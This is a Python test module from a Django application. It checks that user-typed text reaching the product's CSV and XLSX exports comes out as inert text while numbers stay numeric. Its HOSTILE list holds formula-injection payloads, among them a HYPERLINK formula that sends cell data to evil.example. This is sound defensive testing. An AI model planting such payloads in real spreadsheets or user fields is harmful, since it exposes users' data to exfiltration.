"""Formula injection: hostile text typed by users reaches every CSV and XLSX the product writes, and
comes back out as text that no spreadsheet program runs — while numbers stay numbers.

The attacker types a formula wherever text of theirs can end up in an export: an open survey
comment, a text-indicator answer, central's narrative, an agency's name (editable in the admin),
an error report line. Each file is then read back the way a spreadsheet would read it.
"""

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from tests.core.cellkey_oracle import published_participants, published_people
from tests.reports.reports_helpers import accepted_report, add_value, make_activity
from tests.surveys.survey_helpers import add_responses, make_campaign, release_all
from tests.workforce.wf_files import person_rows
from thaothiam.agencies.models import Agency
from thaothiam.core.spreadsheets import FORMULA_START
from thaothiam.reports.models import YearEndNarrative
from thaothiam.workforce.models import WorkforceImport
from thaothiam.workforce.services import workforce_snapshot_load

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"คลิก")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def xlsx_check(data: bytes, expected: list[str]) -> list:
    """No formula anywhere in the workbook's XML; every hostile text read back exactly, as a string."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for text in expected:
        found = [c for c in cells if c.value == text.replace("\r", "\n") or c.value == text]
        assert found, (text, texts[:40])
        assert all(c.data_type == "s" and c.quotePrefix for c in found), text
    return cells


def csv_check(text: str, expected: list[str]) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    fields = [f for row in rows for f in row]
    assert not [f for f in fields if f.startswith(FORMULA_START)]
    for hostile in expected:
        assert "'" + hostile in fields or "'" + hostile.replace("\r", "\n") in fields, hostile
    return rows


@pytest.fixture
def hostile_agencies(reference_data):
    """Six agencies renamed to hostile text (an admin can edit names) with enough people to be shown."""
    codes = ["DIS-1001", "DIS-1002", "DIS-1003", "DIS-1004", "DIS-1005", "DIS-1006"]
    for code, name in zip(codes, HOSTILE, strict=True):
        Agency.objects.filter(code=code).update(name_th=name, name_en=name)
    rows = []
    for code in codes:
        rows += person_rows(Agency.objects.get(code=code).pk, women=12, men=9, prefix=code)
    workforce_snapshot_load(as_of=dt.date(2025, 9, 30), rows=rows)
    return codes


def test_workforce_explorer_open_data_and_template(hostile_agencies, client_for):
    central = client_for("central")
    params = {"measure": "headcount", "row": "agency", "col": "sex", "f_fiscal_year": "2568"}
    cells = xlsx_check(central.get("/workforce/explore/export.xlsx", params).content, HOSTILE)
    # Numbers stay numbers: an agency's 21 people, as the cell-key table publishes them (decision 0022).
    from thaothiam.workforce.models import Person

    one_agency = published_people(Person.objects.filter(snapshot__as_of=dt.date(2025, 9, 30),
                                                        agency__code=hostile_agencies[0]))
    assert one_agency in [c.value for c in cells if isinstance(c.value, int)]
    rows = csv_check(central.get("/workforce/explore/export.csv", params).content.decode(), HOSTILE)
    people = Person.objects.filter(snapshot__as_of=dt.date(2025, 9, 30), agency__code=hostile_agencies[2])
    published = [published_people(people.filter(sex="F")), published_people(people.filter(sex="M")),
                 published_people(people)]
    assert ["'-2+3", *map(str, published)] in rows  # text neutralised, numbers as numbers
    csv_check(client_for("executive").get("/workforce/open-data/workforce-by-agency-sex.csv").content.decode(),
              HOSTILE)
    xlsx_check(central.get("/workforce/template.xlsx").content, [])


def test_import_error_report(client_for, users):
    """An error report line carrying hostile text (a future message quoting a cell) is still safe."""
    job = WorkforceImport.objects.create(as_of=dt.date(2025, 9, 30), agency=users["coordinator"].agency,
                                         filename="hr.csv", created_by=users["coordinator"],
                                         status=WorkforceImport.Status.REFUSED, error_count=len(HOSTILE),
                                         errors=[[i + 2, text, "bad_sex"] for i, text in enumerate(HOSTILE)])
    client = client_for("coordinator")
    cells = xlsx_check(client.get(f"/workforce/import/{job.pk}/errors.xlsx").content, HOSTILE)
    assert 2 in [c.value for c in cells]
    csv_check(client.get(f"/workforce/import/{job.pk}/errors.csv").content.decode(), HOSTILE)


def test_survey_comments_and_titles(workenv_hostile, client_for):
    xlsx_check(client_for("central").get(f"/surveys/results/{workenv_hostile.pk}/export.xlsx").content, HOSTILE)


@pytest.fixture
def workenv_hostile(reference_data):
    from thaothiam.surveys.models import OpenAnswer
    from thaothiam.surveys.structure import load

    campaign = make_campaign("work-environment-2568")
    add_responses(campaign, [({}, {"sex": "F"})] * 12, release=False)  # released below with the comments
    item = load(campaign.instrument_id).item("we_suggestion")
    agency = Agency.objects.get(code="DIS-1001")
    texts = HOSTILE + ["ข้อเสนอ 1", "ข้อเสนอ 2", "ข้อเสนอ 3", "ข้อเสนอ 4"]
    OpenAnswer.objects.bulk_create([OpenAnswer(campaign=campaign, item=item, agency=agency, sex="F", text=t)
                                    for t in texts])
    release_all(campaign)  # results show released responses and comments only
    return campaign


def test_year_end_workbook(users, reference_data, client_for, django_capture_on_commit_callbacks):
    report = accepted_report("DIS-1001", users)
    make_activity(report, female=137, male=96, title=HOSTILE[0])
    for i, text in enumerate(HOSTILE[1:]):
        add_value(accepted_report(f"DIS-100{i + 2}", users), "3-3-findings", text=text)
    add_value(report, "3-3-findings", text=HOSTILE[0])
    YearEndNarrative.objects.create(fy=2568, summary="=1+2", recommendations="- ข้อเสนอแรก\n- ข้อเสนอที่สอง")
    central = client_for("central")
    with django_capture_on_commit_callbacks(execute=True):
        response = central.post("/reports/year-end/generate/", {"fy": "2568", "format": "xlsx"})
    assert response.status_code == 302
    job = central.get(response["Location"])
    assert job.status_code == 200
    download = central.get(response["Location"] + "download/")
    data = b"".join(download.streaming_content)
    cells = xlsx_check(data, [*HOSTILE, "=1+2", "- ข้อเสนอแรก\n- ข้อเสนอที่สอง"])
    assert published_participants(fy=2568) in [c.value for c in cells if isinstance(c.value, int)]  # 137 + 96, perturbed
